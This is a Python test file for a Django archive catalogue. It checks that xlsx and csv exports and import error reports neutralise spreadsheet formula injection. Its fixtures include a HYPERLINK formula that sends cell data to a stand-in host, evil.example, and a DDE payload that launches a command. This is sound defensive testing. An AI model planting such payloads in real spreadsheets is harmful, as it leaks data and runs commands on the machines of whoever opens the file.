"""Spreadsheets Lantai writes never carry live formulas (issue 12, point 12): the catalogue
export (.xlsx, .csv) and the import error report neutralise text starting with = + - @ tab CR,
and .xlsx cells are text, never formulas. An exported list still imports back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
from django.test import Client

from lantai.catalog import exporting, importing
from tests.web.conftest import Site

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "author": "+cmd|' /C calc'!A0",
    "document_number": "-2+3",
    "remarks": "@SUM(1+1)",
}


def _hostile_record(site: Site, tmp_path: Path) -> None:
    """One row of 2024 whose text cells would run as formulas, imported (as lists are)."""
    source = tmp_path / "source.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["档号", "文号", "责任者", "题名", "日期", "密级", "备注", "保管期限", "年度"])
        w.writerow(
            ["Z109-WS·2024-Y-BGS-0001", HOSTILE["document_number"], HOSTILE["author"],
             HOSTILE["title"], "20240515", "公开", HOSTILE["remarks"], "永久", "2024"]
        )  # fmt: skip
    result = importing.import_file(source, site.category)
    assert result.rows_imported == 1, result.errors


def _client(site: Site) -> Client:
    client = Client()
    client.force_login(site.users["cataloguer"])
    return client


def test_xlsx_export_has_no_formula_and_reimports_unchanged(site: Site, tmp_path: Path) -> None:
    _hostile_record(site, tmp_path)
    response = _client(site).get(
        f"/browse/category/{site.category.pk}/export/?format=xlsx&year=2024"
    )
    assert response.status_code == 200
    path = tmp_path / "export.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for value in HOSTILE.values():
        assert "'" + value in texts
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    again = importing.import_file(path, site.category)
    assert (again.rows_imported, again.rows_unchanged, again.rows_rejected) == (0, 1, 0), (
        again.errors
    )


def test_csv_export_neutralises_formula_cells(site: Site, tmp_path: Path) -> None:
    _hostile_record(site, tmp_path)
    response = _client(site).get(
        f"/browse/category/{site.category.pk}/export/?format=csv&year=2024"
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = {c for row in csv.reader(io.StringIO(text)) for c in row}
    for value in HOSTILE.values():
        assert "'" + value in cells and value not in cells
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    again = importing.import_file(path, site.category)
    assert (again.rows_imported, again.rows_unchanged, again.rows_rejected) == (0, 1, 0), (
        again.errors
    )


def test_cli_style_export_file_neutralises_too(site: Site, tmp_path: Path) -> None:
    _hostile_record(site, tmp_path)
    out = tmp_path / "目录.csv"
    exporting.export_file(out, site.category)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_import_error_report_neutralises_the_offending_values(site: Site, tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(
        "档号,题名,日期,密级,保管期限,年度\n"
        'Z109-WS·2023-Y-BGS-0101,通知,20230101,"=1+2",永久,2023\n'
        "Z109-WS·2023-Y-BGS-0102,通知,@now,公开,永久,2023\n",
        encoding="utf-8",
    )
    result = importing.import_file(path, site.category)
    assert result.status == "rejected"
    response = _client(site).get(f"/imports/{result.batch_id}/errors.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    values = [row[3] for row in rows[1:]]
    assert "'=1+2" in values and "'@now" in values
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
